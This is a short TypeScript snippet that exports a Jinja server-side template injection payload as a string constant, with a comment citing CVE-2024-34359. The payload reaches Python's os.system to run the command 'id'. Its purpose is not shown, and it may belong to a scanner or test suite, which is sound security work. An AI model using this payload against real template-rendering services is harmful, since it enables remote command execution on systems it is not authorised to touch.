/** The usual way out of a Jinja template (CVE-2024-34359). */
export const breakout = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('id') }}"
